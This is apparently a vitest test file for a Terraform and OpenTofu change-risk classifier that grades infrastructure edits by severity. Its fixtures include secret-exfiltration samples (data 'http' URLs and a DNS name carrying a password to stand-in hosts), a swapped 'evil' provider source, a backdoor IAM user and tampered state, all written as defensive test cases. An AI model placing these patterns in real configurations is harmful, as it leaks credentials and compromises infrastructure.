import { describe } from 'vitest';
import { type Case, created, edited, runCases } from './support.js';

function backend(bucket: string): string {
  return `terraform {\n  backend "s3" {\n    bucket = "${bucket}"\n    key    = "prod.tfstate"\n  }\n}\n`;
}

function awsProvider(body: string): string {
  return `provider "aws" {\n  region = "eu-west-1"\n${body}}\n`;
}

function requiredAws(source: string, version: string): string {
  return `terraform {\n  required_providers {\n    aws = {\n      source  = "${source}"\n      version = "${version}"\n    }\n  }\n}\n`;
}

/** A resource of `type` on the aliased provider `provider`, with `body`. */
function onProvider(provider: string, type: string, name: string, body: string): string {
  return `resource "${type}" "${name}" {\n  provider = ${provider}\n${body}}\n`;
}

const OPEN_SSH =
  '  security_group_id = "sg-1"\n  cidr_ipv4         = "0.0.0.0/0"\n  from_port         = 22\n  to_port           = 22\n  ip_protocol       = "tcp"\n';

/** An OpenTofu state encryption block, enforced or not. */
function encryption(enforced: string): string {
  return `terraform {\n  encryption {\n    key_provider "pbkdf2" "k" {\n      passphrase = var.passphrase\n    }\n    method "aes_gcm" "m" {\n      keys = key_provider.pbkdf2.k\n    }\n    state {\n      method   = method.aes_gcm.m\n      enforced = ${enforced}\n    }\n  }\n}\n`;
}

const cases: Case[] = [
  ...(
    [
      ['azapi_resource', 'type = "Microsoft.ContainerService/managedClusters@2024-05-01"', 'azapi'],
      ['azapi_update_resource', 'type = "Microsoft.Storage/storageAccounts@2023-01-01"', 'azapi'],
      ['azapi_resource_action', 'action = "listKeys"', 'azapi'],
      ['aws_cloudcontrolapi_resource', 'type_name = "AWS::S3::Bucket"', 'aws'],
      ['azurerm_resource_group_template_deployment', 'template_content = "{}"', 'azurerm'],
      ['google_deployment_manager_deployment', 'name = "d"', 'google'],
    ] as const
  ).map(
    ([type, argument, provider]): Case => [
      `a resource made through a generic API or template (${type}) is medium: its type and body decide what it is`,
      ...created(`resource "${type}" "r" {\n  ${argument}\n}\n`),
      [[`${type}.r`, `terraform-control.${provider}.generic-resource`, 'medium']],
    ],
  ),
  ...(
    [
      ['azapi_resource', 'type = "Microsoft.Network/networkSecurityGroups@2023-09-01"', 'azapi'],
      ['azapi_resource', 'type = "Microsoft.KeyVault/vaults@2023-07-01"', 'azapi'],
      [
        'azapi_resource_action',
        'type = "Microsoft.Compute/virtualMachines@2024-03-01"\n  action = "runCommand"',
        'azapi',
      ],
      ['aws_cloudcontrolapi_resource', 'type_name = "AWS::IAM::Role"', 'aws'],
    ] as const
  ).map(
    ([type, argument, provider]): Case => [
      `a generic resource that decides access (${argument.split('\n').at(-1)!.trim()}) is high`,
      ...created(`resource "${type}" "r" {\n  ${argument}\n}\n`),
      [
        [`${type}.r`, `terraform-control.${provider}.security-resource`, 'high'],
        [`${type}.r`, `terraform-control.${provider}.generic-resource`, 'medium'],
      ],
    ],
  ),
  [
    "a generic resource's body changed where its type decides access is high",
    ...edited(
      'resource "aws_cloudcontrolapi_resource" "r" {\n  type_name     = "AWS::IAM::Role"\n  desired_state = jsonencode({ RoleName = "a" })\n}\n',
      'RoleName = "a"',
      'RoleName = "b"',
    ),
    [
      ['aws_cloudcontrolapi_resource.r', 'terraform-control.aws.security-resource', 'high'],
      ['aws_cloudcontrolapi_resource.r', 'terraform-control.aws.generic-resource', 'medium'],
    ],
  ],
  [
    'a CloudFormation stack created is high: its template creates what no rule sees one by one',
    ...created(
      'resource "aws_cloudformation_stack" "s" {\n  name         = "s"\n  template_url = "https://s3.amazonaws.com/b/t.yaml"\n}\n',
    ),
    [['aws_cloudformation_stack.s', 'terraform-control.aws.cloudformation-stack', 'high']],
  ],
  [
    'changing the backend bucket is critical',
    { 'main.tf': backend('state-a') },
    { 'main.tf': backend('state-b') },
    [['terraform.backend.s3', 'terraform-control.terraform.backend', 'critical']],
  ],
  [
    'adding a cloud block is critical (the new terraform block around it is low)',
    ...created('terraform {\n  cloud {\n    organization = "acme"\n  }\n}\n'),
    [
      ['terraform.cloud', 'terraform-control.terraform.backend', 'critical'],
      ['terraform', 'default', 'low'],
    ],
  ],
  [
    'adding assume_role to a provider is critical',
    { 'main.tf': awsProvider('') },
    {
      'main.tf': awsProvider('  assume_role {\n    role_arn = "arn:aws:iam::111122223333:role/admin"\n  }\n'),
    },
    [
      ['provider.aws', 'terraform-control.terraform.provider-credentials', 'critical'],
      ['provider.aws', 'terraform-control.terraform.provider', 'medium'],
    ],
  ],
  [
    'changing only the provider region is medium',
    { 'main.tf': awsProvider('') },
    { 'main.tf': awsProvider('').replace('eu-west-1', 'us-east-1') },
    [['provider.aws', 'terraform-control.terraform.provider', 'medium']],
  ],
  [
    'changing a provider source is critical',
    { 'main.tf': requiredAws('hashicorp/aws', '~> 5.0') },
    { 'main.tf': requiredAws('evil/aws', '~> 5.0') },
    [['terraform.required_providers.aws', 'terraform-control.terraform.required-provider-source', 'critical']],
  ],
  [
    'changing a provider version is medium',
    { 'main.tf': requiredAws('hashicorp/aws', '~> 5.0') },
    { 'main.tf': requiredAws('hashicorp/aws', '~> 6.0') },
    [['terraform.required_providers.aws', 'terraform-control.terraform.required-provider-version', 'medium']],
  ],
  [
    'adding a HashiCorp provider requirement is medium (the new terraform block around it is low)',
    ...created(requiredAws('hashicorp/aws', '~> 5.0')),
    [
      ['terraform.required_providers.aws', 'terraform-control.terraform.required-provider-added-official', 'medium'],
      ['terraform', 'default', 'low'],
    ],
  ],
  [
    'adding a provider from another publisher is high',
    ...created(requiredAws('evil-corp/aws', '~> 5.0')),
    [
      ['terraform.required_providers.aws', 'terraform-control.terraform.required-provider-added', 'high'],
      ['terraform.required_providers.aws', 'terraform-control.terraform.required-provider-added-official', 'medium'],
      ['terraform', 'default', 'low'],
    ],
  ],
  [
    "registry.terraform.io/HashiCorp/aws is HashiCorp's (names compare without case)",
    ...created(requiredAws('registry.terraform.io/HashiCorp/aws', '~> 5.0')),
    [
      ['terraform.required_providers.aws', 'terraform-control.terraform.required-provider-added-official', 'medium'],
      ['terraform', 'default', 'low'],
    ],
  ],
  [
    'a removed block that forgets is high',
    ...created('removed {\n  from = aws_instance.old\n  lifecycle {\n    destroy = false\n  }\n}\n'),
    [['removed.aws_instance.old', 'terraform-control.terraform.removed-block', 'high']],
  ],
  [
    'a removed block that destroys is critical',
    ...created('removed {\n  from = aws_instance.old\n  lifecycle {\n    destroy = true\n  }\n}\n'),
    [
      ['removed.aws_instance.old', 'terraform-control.terraform.removed-with-destroy', 'critical'],
      ['removed.aws_instance.old', 'terraform-control.terraform.removed-block', 'high'],
    ],
  ],
  [
    'an import block is high',
    ...created('import {\n  to = aws_s3_bucket.logs\n  id = "logs"\n}\n'),
    [['import.aws_s3_bucket.logs', 'terraform-control.terraform.import-block', 'high']],
  ],
  [
    'a local-exec provisioner is high',
    ...created(`
resource "terraform_data" "bootstrap" {
  provisioner "local-exec" {
    command = "./bootstrap.sh"
  }
}
`),
    [['terraform_data.bootstrap', 'terraform-control.terraform.provisioner', 'high']],
  ],
  [
    'an external data source is high',
    ...created('data "external" "git" {\n  program = ["git", "rev-parse", "HEAD"]\n}\n'),
    [['data.external.git', 'terraform-control.terraform.external-program', 'high']],
  ],
  [
    'a new data "http" that sends a secret in its URL is high: the request leaves at plan time',
    ...created('data "http" "ping" {\n  url = "https://status.example.com/?token=${var.db_password}"\n}\n'),
    [['data.http.ping', 'terraform-control.terraform.outbound-request', 'high']],
  ],
  [
    'a data "http" pointed at another URL is high',
    { 'main.tf': 'data "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n' },
    { 'main.tf': 'data "http" "ip" {\n  url = "https://collector.example.net/?k=${var.api_key}"\n}\n' },
    [['data.http.ip', 'terraform-control.terraform.outbound-request', 'high']],
  ],
  [
    'removing a data "http" sends nothing: the default tier',
    { 'main.tf': 'data "http" "ip" {\n  url = "https://checkip.amazonaws.com"\n}\n' },
    { 'main.tf': '' },
    [['data.http.ip', 'default', 'low']],
  ],
  [
    'a DNS lookup of a name built from a secret is high: the query carries it out',
    ...created('data "dns_a_record_set" "x" {\n  host = "${var.db_password}.exfil.example.net"\n}\n'),
    [['data.dns_a_record_set.x', 'terraform-control.terraform.outbound-request', 'high']],
  ],
  [
    'invoking a Lambda function from a data source is high: it runs at every plan',
    ...created(
      'data "aws_lambda_invocation" "seed" {\n  function_name = "seeder"\n  input         = jsonencode({ key = var.db_password })\n}\n',
    ),
    [['data.aws_lambda_invocation.seed', 'terraform-control.aws.lambda-invocation', 'high']],
  ],
  [
    'a check block with a nested data "http" is high: it is read at every plan',
    ...created(
      'check "health" {\n  data "http" "ping" {\n    url = "https://status.example.com/?t=${var.db_password}"\n  }\n  assert {\n    condition     = data.http.ping.status_code == 200\n    error_message = "down"\n  }\n}\n',
    ),
    [['check.health', 'terraform-control.terraform.check-request', 'high']],
  ],
  [
    'an ephemeral resource (a secret read at every plan, never stored) is medium',
    ...created('ephemeral "aws_secretsmanager_secret_version" "db" {\n  secret_id = "prod/db"\n}\n'),
    [['ephemeral.aws_secretsmanager_secret_version.db', 'terraform-control.terraform.ephemeral-resource', 'medium']],
  ],
  [
    'an ephemeral Lambda invocation runs code at every plan: high',
    ...created('ephemeral "aws_lambda_invocation" "x" {\n  function_name = "f"\n  payload       = "{}"\n}\n'),
    [
      ['ephemeral.aws_lambda_invocation.x', 'terraform-control.aws.lambda-invocation', 'high'],
      ['ephemeral.aws_lambda_invocation.x', 'terraform-control.terraform.ephemeral-resource', 'medium'],
    ],
  ],
  [
    'an action block (Terraform 1.14) is high',
    ...created('action "aws_lambda_invoke" "notify" {\n  config {\n    function_name = "f"\n  }\n}\n'),
    [['action.aws_lambda_invoke.notify', 'terraform-control.terraform.action', 'high']],
  ],
  [
    'a resource that now triggers an action is high',
    { 'main.tf': 'resource "aws_instance" "web" {\n  ami = "ami-1"\n}\n' },
    {
      'main.tf':
        'resource "aws_instance" "web" {\n  ami = "ami-1"\n  lifecycle {\n    action_trigger {\n      events  = [after_create]\n      actions = [action.aws_lambda_invoke.notify]\n    }\n  }\n}\n',
    },
    [['aws_instance.web', 'terraform-control.terraform.action-trigger', 'high']],
  ],
  [
    'a check block of assertions only sends nothing: the default tier',
    ...created(
      'check "ok" {\n  assert {\n    condition     = length(var.name) > 2\n    error_message = "short"\n  }\n}\n',
    ),
    [['check.ok', 'default', 'low']],
  ],
  [
    'reading remote state is medium',
    ...created('data "terraform_remote_state" "net" {\n  backend = "s3"\n}\n'),
    [['data.terraform_remote_state.net', 'terraform-control.terraform.remote-state', 'medium']],
  ],
  [
    'a database given another provider configuration is high: it is created in the other account',
    { 'main.tf': onProvider('aws.prod', 'aws_db_instance', 'main', '  identifier = "main"\n') },
    { 'main.tf': onProvider('aws.dev', 'aws_db_instance', 'main', '  identifier = "main"\n') },
    [['aws_db_instance.main', 'terraform-control.terraform.provider-reassigned', 'high']],
  ],
  [
    "an ingress rule open to the world, moved from the sandbox's provider to production's, is judged as created: critical",
    { 'main.tf': onProvider('aws.sandbox', 'aws_vpc_security_group_ingress_rule', 'ssh', OPEN_SSH) },
    { 'main.tf': onProvider('aws.prod', 'aws_vpc_security_group_ingress_rule', 'ssh', OPEN_SSH) },
    [
      ['aws_vpc_security_group_ingress_rule.ssh', 'network.aws.security-group-open-world', 'critical'],
      ['aws_vpc_security_group_ingress_rule.ssh', 'network.aws.security-group', 'high'],
      ['aws_vpc_security_group_ingress_rule.ssh', 'terraform-control.terraform.provider-reassigned', 'high'],
    ],
  ],
  [
    'a module call given other providers is high: everything in it moves',
    { 'main.tf': 'module "db" {\n  source    = "./db"\n  providers = { aws = aws.prod }\n}\n' },
    { 'main.tf': 'module "db" {\n  source    = "./db"\n  providers = { aws = aws.dev }\n}\n' },
    [['module.db', 'terraform-control.terraform.module-providers', 'high']],
  ],
  [
    "OpenTofu's state encryption no longer enforced is critical: state may be written in the clear",
    { 'main.tofu': encryption('true') },
    { 'main.tofu': encryption('false') },
    [['terraform', 'terraform-control.terraform.state-encryption', 'critical']],
  ],
  [
    'a changed lock file is high: it says which plugin binaries are trusted',
    { '.terraform.lock.hcl': 'provider "registry.terraform.io/hashicorp/aws" {}\n' },
    {
      '.terraform.lock.hcl': 'provider "registry.terraform.io/hashicorp/aws" {\n  version = "6.0.0"\n}\n',
    },
    [['.terraform.lock.hcl', 'terraform-control.terraform.lock-file', 'high']],
  ],
  [
    'a moved block is low',
    { 'main.tf': 'resource "aws_instance" "a" {\n  ami = "x"\n}\n' },
    {
      'main.tf':
        'resource "aws_instance" "b" {\n  ami = "x"\n}\nmoved {\n  from = aws_instance.a\n  to   = aws_instance.b\n}\n',
    },
    [
      ['aws_instance.b', 'moved-unchanged', 'low'],
      ['moved.aws_instance.a', 'default', 'low'],
    ],
  ],
];

const BACKEND_CONFIG = 'bucket = "state-prod"\nkey    = "prod.tfstate"\n';

/** Files Terraform or OpenTofu read besides the configuration: each change is a finding of its own, never parsed. */
const fileCases: Case[] = [
  [
    'adding a backend configuration file is critical',
    {},
    { 'envs/prod.tfbackend': BACKEND_CONFIG },
    [['envs/prod.tfbackend', 'terraform-control.terraform.backend-config-file', 'critical']],
  ],
  [
    'changing a backend configuration file is critical',
    { 'prod.tfbackend': BACKEND_CONFIG },
    { 'prod.tfbackend': BACKEND_CONFIG.replace('state-prod', 'state-elsewhere') },
    [['prod.tfbackend', 'terraform-control.terraform.backend-config-file', 'critical']],
  ],
  [
    'deleting a backend configuration file is critical',
    { 'prod.tfbackend': BACKEND_CONFIG },
    {},
    [['prod.tfbackend', 'terraform-control.terraform.backend-config-file', 'critical']],
  ],
  [
    'renaming a backend configuration file is critical',
    { 'prod.tfbackend': BACKEND_CONFIG },
    { 'prod.tfbackend.old': BACKEND_CONFIG },
    [['prod.tfbackend.old', 'terraform-control.terraform.backend-config-file', 'critical']],
  ],
  [
    'a changed provider plugin in a committed .terraform directory is critical',
    {
      '.terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws': 'ELF one',
    },
    {
      '.terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws': 'ELF two',
    },
    [
      [
        '.terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws',
        'terraform-control.terraform.committed-dot-terraform',
        'critical',
      ],
    ],
  ],
  [
    'a module added to a nested .terraform directory is critical, and its resources are no configuration change',
    {},
    {
      'envs/prod/.terraform/modules/vpc/main.tf': 'resource "aws_iam_user" "backdoor" {\n  name = "x"\n}\n',
    },
    [['envs/prod/.terraform/modules/vpc/main.tf', 'terraform-control.terraform.committed-dot-terraform', 'critical']],
  ],
  [
    'a plugin added to the terraform.d local mirror is critical',
    {},
    {
      'terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws': 'ELF',
    },
    [
      [
        'terraform.d/plugins/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws',
        'terraform-control.terraform.local-provider-mirror',
        'critical',
      ],
    ],
  ],
  ...['terraform.tfstate', 'stacks/prod/terraform.tfstate.backup', 'terraform.tfstate.d/prod/terraform.tfstate'].map(
    (path): Case => [
      `an edited ID in the committed state ${path} is critical: the next apply acts on another object`,
      {
        [path]:
          '{"version":4,"resources":[{"type":"aws_instance","name":"tmp","instances":[{"attributes":{"id":"i-aaa"}}]}]}\n',
      },
      {
        [path]:
          '{"version":4,"resources":[{"type":"aws_instance","name":"tmp","instances":[{"attributes":{"id":"i-prod"}}]}]}\n',
      },
      [[path, 'terraform-control.terraform.committed-state', 'critical']],
    ],
  ),
  ...['.terraformrc', 'terraform.rc', '.tofurc', 'tofu.rc', 'ci/.terraformrc'].map(
    (path): Case => [
      `adding the CLI configuration ${path} is critical`,
      {},
      { [path]: 'provider_installation {\n  dev_overrides {}\n}\n' },
      [[path, 'terraform-control.terraform.cli-configuration', 'critical']],
    ],
  ),
  ...['.terraformignore', 'stacks/prod/.terraformignore'].map(
    (path): Case => [
      `a ${path} that leaves a file out of remote runs is high: its objects are destroyed there`,
      { [path]: '.git/\n' },
      { [path]: '.git/\nguardrails.tf\n' },
      [[path, 'terraform-control.terraform.ignore-file', 'high']],
    ],
  ),
];

describe('terraform control catalog', () => {
  runCases(cases);
});

describe('terraform control catalog: files Terraform reads besides the configuration', () => {
  runCases(fileCases);
});
